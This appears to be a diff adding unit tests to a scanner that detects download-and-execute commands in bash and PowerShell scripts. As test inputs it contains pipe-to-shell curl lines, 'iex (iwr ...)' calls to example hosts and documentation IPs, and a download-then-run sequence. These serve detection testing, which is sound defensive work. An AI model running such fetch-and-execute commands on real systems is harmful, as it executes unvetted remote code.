@@ -349,3 +349,31 @@ def test_a_powershell_flood_of_critical_hits_stops_the_file_check() -> None:
     hits = list(PowerShellDownloadExec().check(ctx))
     assert [(h.rule_id, h.line, h.more) for h in hits] == [(DELIVERY, n, 0) for n in range(1, 21)]
     assert list(ctx.shortfalls) == ["saturated:PowerShellDownloadExec"]
+
+
+def test_repeats_on_one_line_count_once(policy: HostPolicy) -> None:
+    line = "curl -s https://setup.example.net/a | sh; curl -s https://setup.example.net/a | sh\n"
+    found = scan_bash(line * 30, policy)
+    assert [d.line for d in found] == list(range(1, 21)) and found[-1].more == 10
+    ps_line = "iex (iwr https://setup.example.net/a); iex (iwr https://setup.example.net/a)\n"
+    found = scan_powershell(ps_line * 30, policy)
+    assert [d.line for d in found] == list(range(1, 21)) and found[-1].more == 10
+
+
+def test_repeats_replay_each_line_until_the_state_changes(policy: HostPolicy) -> None:
+    # `./x` repeated: nothing is downloaded before line 4, the download from line 4 runs after it
+    src = "./x\n" * 3 + "curl -o x http://192.0.2.5/x\n" + "./x\n" * 25
+    found = scan_bash(src, policy)
+    assert [d.line for d in found] == list(range(5, 25)) and found[-1].more == 5
+
+
+def test_powershell_nesting_statements_are_found_among_plain_ones(policy: HostPolicy) -> None:
+    src = (
+        "Write-Host a\n"
+        "$r = @( iex (iwr http://192.0.2.7/p) ); & { iex (iwr http://192.0.2.7/q) }\n"
+        "Write-Host b\n"
+        "Write-Host $( iex (iwr http://192.0.2.7/r) )\n"
+        "Write-Host '{'\n"
+    )
+    found = sorted((d.line, d.rule_id) for d in scan_powershell(src, policy))
+    assert found == [(2, DELIVERY), (4, DELIVERY)]
